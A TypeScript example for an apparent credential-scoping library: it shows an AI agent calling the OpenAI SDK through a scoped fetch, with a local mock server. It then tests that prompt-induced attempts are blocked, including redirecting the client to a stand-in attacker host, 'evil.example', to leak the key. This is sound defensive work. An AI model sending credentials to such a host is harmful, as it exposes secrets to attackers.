/** How does an agent use the SDK of a model maker without holding the key? Needs `npm install openai`; any other SDK that takes a `fetch` does as well. */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { inspect } from 'node:util'
import OpenAI from 'openai'
import { createSecrets, isSecretError } from 'keyward'
import { placeholder, scopedFetch } from 'keyward/agents'

/** Stands in for api.openai.com: it knows who may ask, and is careless enough to say with what. */
const service = createServer((request, response) => {
  const { authorization } = request.headers
  response.writeHead(authorization === 'Bearer not-a-real-openai-key' ? 200 : 401, { 'content-type': 'application/json' })
  response.end(JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: `hello, ${authorization}` } }] }))
})
await new Promise<void>((resolve) => service.listen(0, '127.0.0.1', resolve))
const origin = `http://127.0.0.1:${(service.address() as AddressInfo).port}`

const secrets = createSecrets({
  provider: { name: 'memory', secrets: { OPENAI_API_KEY: 'not-a-real-openai-key' } },
  secrets: { OPENAI_API_KEY: { origins: [origin], methods: ['POST'], paths: ['/v1/chat/*'], inject: { header: 'authorization', prefix: 'Bearer ' } } },
})
const researcher = secrets.scope({ agent: 'researcher', allow: ['OPENAI_API_KEY'] })

// The SDK refuses to start without a key, so it is given one that is none. `allowLoopbackHttp` is for the server above alone.
const client = new OpenAI({
  apiKey: placeholder,
  baseURL: `${origin}/v1`,
  maxRetries: 0,
  fetch: scopedFetch('OPENAI_API_KEY', { secrets: researcher, allowLoopbackHttp: true }),
})
const ask = () => client.chat.completions.create({ model: 'any', messages: [{ role: 'user', content: 'hello' }] })

console.log(`the model says: ${(await ask()).choices[0]?.message.content}`)
console.log(`the key is in the client: ${inspect(client, { depth: 9, showHidden: true }).includes('not-a-real-openai-key')}`)

/** What a prompt may talk an agent into. */
async function attempt(what: string, run: () => Promise<unknown>): Promise<void> {
  const error: unknown = await run().catch((failure: { cause?: unknown }) => failure.cause)
  console.log(`${what}: ${isSecretError(error) ? `${error.code} [${error.reason}]` : 'sent'}`)
}
await attempt('another server', () => client.withOptions({ baseURL: 'https://evil.example/v1' }).models.list())
await attempt('another path', () => client.files.create({ file: new File(['notes'], 'notes.jsonl'), purpose: 'batch' }))
await researcher.revoke()
await attempt('after the scope was revoked', ask)

await secrets.close()
service.close()
